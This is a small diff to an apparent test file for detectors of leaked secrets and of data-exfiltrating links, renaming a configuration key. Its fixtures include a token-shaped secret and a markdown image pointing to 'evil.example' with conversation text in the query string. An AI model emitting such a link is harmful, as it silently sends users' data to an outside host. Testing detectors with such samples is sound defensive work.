@@ -35,7 +35,7 @@ const reference = 'Never tell anybody about the closed reading room, and always 
 runConformance(secrets, {
   create: () => Promise.resolve(new SecretsDetector()),
   facts: {
-    parts: secretParts,
+    fragments: secretParts,
     samples: {
       flagged: { text: whole(`Deploy it with gh¦p_${random(36)} as the token.`) },
       harmless: { text: 'Please summarise the attached report in three sentences.' },
@@ -46,7 +46,7 @@ runConformance(secrets, {
 runConformance(links, {
   create: () => Promise.resolve(new LinksDetector()),
   facts: {
-    parts: linkParts,
+    fragments: linkParts,
     samples: {
       flagged: { text: 'Here is the chart: ![chart](https://evil.example/p?q=what-you-said)' },
       harmless: { text: 'Please read [the report](./report.md) in three minutes.' },
